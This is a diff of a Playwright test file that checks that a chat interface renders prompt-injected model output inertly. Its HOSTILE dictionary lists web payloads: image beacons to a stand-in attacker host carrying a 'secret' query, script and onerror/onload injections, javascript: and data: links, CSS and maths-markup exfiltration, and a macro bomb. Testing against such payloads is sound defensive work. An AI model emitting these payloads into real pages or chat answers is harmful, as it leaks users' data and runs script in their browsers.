@@ -1,29 +1,30 @@
-"""The words come from a model that may have read a hostile page: none of them may act, or tell another host anything."""
+"""The words come from a model that may have read a hostile page: none may act, or tell another host anything."""
 
 import pytest
 from playwright.sync_api import expect
-from tests.support.chat_page import ChatPage
+
+from support.chat_page import ChatPage
 
 HOSTILE = {
     "remote image": "![x](https://evil.example/leak.png?q=secret)",
     "reference image": "![x][1]\n\n[1]: https://evil.example/leak.png",
-    "raw image": '<img src="https://evil.example/a.png" onerror="document.title=\'owned\'">',
-    "script": "<script>document.title='owned'</script>",
+    "raw image": '<img src="https://evil.example/a.png" onerror="window.owned=1">',
+    "script": "<script>window.owned=1</script>",
     "style": "<style>body{background:url(https://evil.example/css)}</style>",
     "frame": '<iframe src="https://evil.example/"></iframe>',
-    "svg": '<svg onload="document.title=\'owned\'"><image href="https://evil.example/s.png"/></svg>',
-    "link to script": "[click](javascript:document.title='owned')",
-    "link to data": "[click](data:text/html,<script>document.title='owned'</script>)",
+    "svg": '<svg onload="window.owned=1"><image href="https://evil.example/s.png"/></svg>',
+    "link to script": "[click](javascript:window.owned=1)",
+    "link to data": "[click](data:text/html,<script>window.owned=1</script>)",
     "svg image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
-    "maths link": "$$\\href{javascript:document.title='owned'}{x}$$",
+    "maths link": "$$\\href{javascript:window.owned=1}{x}$$",
     "maths image": "$$\\includegraphics{https://evil.example/k.png}$$",
     "maths style": "$$\\htmlStyle{background:url(https://evil.example/m)}{x}$$",
     "maths bomb": "$$" + "\\def\\a{\\a\\a}\\a" + "$$",
     "form": '<form action="https://evil.example/"><button>press</button></form>',
     "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
     "autolink": "https://evil.example/?q=1 www.evil.example",
-    "code with a tag": "```html\n<script>document.title='owned'</script>\n```",
-    "language as a tag": '```"><script>document.title=1</script>\ncode\n```',
+    "code with a tag": "```html\n<script>window.owned=1</script>\n```",
+    "language as a tag": '```"><script>window.owned=1</script>\ncode\n```',
 }
 
 
@@ -34,7 +35,7 @@ def test_hostile_words_do_nothing(chat: ChatPage, kind: str) -> None:
     chat.say(f"{HOSTILE[kind]}\n\nthe end of {kind}")
     expect(chat.last_answer).to_contain_text(f"the end of {kind}")
     chat.wait_until_answered()
-    assert "owned" not in chat.page.title()
+    assert chat.page.evaluate("() => window.owned === undefined")
     acting = chat.answers.locator("script, iframe, style, form, object, embed, meta, svg image, [onerror], [onload]")
     expect(acting).to_have_count(0)
     expect(chat.answers.locator("img:not([src^='data:image/'])")).to_have_count(0)
